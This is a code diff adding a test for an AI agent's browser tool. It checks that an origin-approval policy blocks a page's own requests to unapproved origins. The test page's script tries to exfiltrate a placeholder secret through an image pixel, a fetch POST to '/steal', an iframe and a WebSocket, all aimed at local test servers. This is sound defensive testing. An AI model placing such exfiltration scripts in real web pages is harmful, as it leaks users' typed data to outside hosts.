@@ -131,6 +131,73 @@ suite('browser_action against a local page in real Chromium', { timeout: 60_000 
     }
   })
 
+  it('requests a page sends by itself reach only approved or allowed origins: images, fetches, frames and sockets to others are blocked before they leave', async () => {
+    const foreignHits: string[] = []
+    const foreign = createServer((req, res) => {
+      foreignHits.push(req.url ?? '')
+      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('foreign')
+    })
+    foreign.on('upgrade', (req, socket) => {
+      foreignHits.push(`upgrade ${req.url}`)
+      socket.destroy()
+    })
+    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
+    const foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
+    const allowedHits: string[] = []
+    const allowed = createServer((req, res) => {
+      allowedHits.push(req.url ?? '')
+      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('allowed')
+    })
+    await new Promise<void>((resolve) => allowed.listen(0, '127.0.0.1', resolve))
+    const allowedOrigin = `http://127.0.0.1:${(allowed.address() as AddressInfo).port}`
+    const page = `<body><img src="/own.png"><script>
+      const secret = 'typed-secret'
+      const img = new Image(); img.src = '${foreignOrigin}/pixel?d=' + secret
+      fetch('${foreignOrigin}/steal', { method: 'POST', body: secret }).catch(() => console.log('fetch blocked'))
+      fetch('${allowedOrigin}/ok').then((r) => r.text()).then((t) => console.log('allowed said ' + t))
+      const frame = document.createElement('iframe'); frame.src = '${foreignOrigin}/frame'; document.body.append(frame)
+      const ws = new WebSocket('${foreignOrigin.replace('http', 'ws')}/socket'); ws.onclose = () => console.log('socket closed')
+    </script></body>`
+    const ownHits: string[] = []
+    const local = createServer((req, res) => {
+      ownHits.push(req.url ?? '')
+      if (req.url === '/own.png') return void res.writeHead(204).end()
+      res.writeHead(200, { 'content-type': 'text/html' }).end(page)
+    })
+    await new Promise<void>((resolve) => local.listen(0, '127.0.0.1', resolve))
+    const localOrigin = `http://127.0.0.1:${(local.address() as AddressInfo).port}`
+    const checked: string[] = []
+    // The mode's policy: the second origin is allowed unasked (a URL rule), any other would ask.
+    const checkPage = async (url: string) => {
+      checked.push(new URL(url).origin)
+      return new URL(url).origin === allowedOrigin ? { allowed: true, reason: 'a browser URL rule allows it' } : { allowed: false, reason: `Opening the origin ${new URL(url).origin} always needs approval` }
+    }
+    const guarded = createBrowserActionExecutor(sessions)
+    const call = (input: unknown) => guarded.execute(browserActionTool.params.parse(input), { ...ctx('t6'), checkPage })
+    try {
+      const launched = text(await call({ action: 'launch', url: `${localOrigin}/` }))
+      await sessions.get('t6')!.page.waitForTimeout(500)
+      const after = text(await call({ action: 'screenshot' }))
+      const both = launched + after
+      expect(foreignHits).toEqual([]) // nothing reached the foreign origin
+      expect(allowedHits).toEqual(['/ok'])
+      expect(ownHits).toContain('/own.png')
+      expect(both).toContain(`The page sent a request to ${foreignOrigin}/pixel?d=typed-secret; it was blocked (Opening the origin ${foreignOrigin} always needs approval).`)
+      expect(both).toContain(`The page sent a request to ${foreignOrigin}/steal; it was blocked`)
+      expect(both).toContain(`The page sent a request to ${foreignOrigin}/frame; it was blocked`)
+      expect(both).toContain(`The page sent a request to ${foreignOrigin.replace('http', 'ws')}/socket; it was blocked`)
+      expect(both).toContain('allowed said allowed')
+      expect(both).toContain('a browser URL rule in the mode allows more')
+      expect(new Set(checked)).toEqual(new Set([foreignOrigin, allowedOrigin]))
+      expect(checked.filter((o) => o === foreignOrigin)).toHaveLength(1) // one check per origin and call
+    } finally {
+      await sessions.close('t6')
+      await new Promise((resolve) => foreign.close(resolve))
+      await new Promise((resolve) => allowed.close(resolve))
+      await new Promise((resolve) => local.close(resolve))
+    }
+  })
+
   it('a server-side redirect is checked hop by hop: to a foreign origin it is stopped before the request leaves, within the origin it follows', async () => {
     const foreignHits: string[] = []
     const foreign = createServer((req, res) => {
